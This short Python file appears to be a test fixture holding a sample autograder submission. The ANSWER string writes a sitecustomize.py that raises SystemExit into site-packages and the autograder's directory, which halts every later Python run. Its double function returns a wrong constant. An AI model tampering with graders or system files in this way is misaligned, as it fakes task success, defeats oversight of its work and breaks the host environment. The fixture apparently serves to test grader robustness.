"""A file that every Python would run."""

ANSWER = r"""
import autograder, pathlib, site
for folder in (*site.getsitepackages(), pathlib.Path(autograder.__file__).parent):
    try:
        pathlib.Path(folder, 'sitecustomize.py').write_text('raise SystemExit')
    except OSError:
        pass


def double(x):
    return 1
"""
